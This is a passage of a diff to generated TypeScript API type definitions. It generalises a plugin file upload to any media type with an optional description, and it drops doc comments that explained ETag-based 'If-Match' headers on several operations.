                 to?: string;
             };
             header?: never;
@@ -11048,12 +11009,13 @@ export interface operations {
         requestBody: {
             content: {
                 "multipart/form-data": {
-                    kind: components["schemas"]["PluginKind"];
                     /**
                      * Format: binary
-                     * @description The WebAssembly component (`.wasm`).
+                     * @description The file; its part's Content-Type is its media type.
                      */
                     file: string;
+                    /** @description Optional note about the file. */
+                    description?: string;
                 };
             };
         };
@@ -11471,10 +11433,6 @@ export interface operations {
         parameters: {
             query?: never;
             header?: {
-                /**
-                 * @description Act only on this version, as the plugin's `ETag` gave it: `"3"`,
-                 *     `W/"3"` or `3` (412 when it is not the current one).
-                 */
                 "If-Match"?: string;
             };
             path: {
@@ -11618,10 +11576,6 @@ export interface operations {
         parameters: {
             query?: never;
             header?: {
-                /**
-                 * @description Act only on this version, as the plugin's `ETag` gave it: `"3"`,
-                 *     `W/"3"` or `3` (412 when it is not the current one).
-                 */
                 "If-Match"?: string;
             };
             path: {
@@ -11765,10 +11719,6 @@ export interface operations {
         parameters: {
             query?: never;
             header?: {
-                /**
-                 * @description Act only on this version, as the plugin's `ETag` gave it: `"3"`,
-                 *     `W/"3"` or `3` (412 when it is not the current one).
-                 */
                 "If-Match"?: string;
             };
             path: {
@@ -12494,7 +12444,6 @@ export interface operations {
         parameters: {
             query?: never;
             header?: {
-                /** @description The version edited, as the rule's `ETag` gave it: `"3"`, `W/"3"` or `3`. */
                 "If-Match"?: string;
             };
             path: {
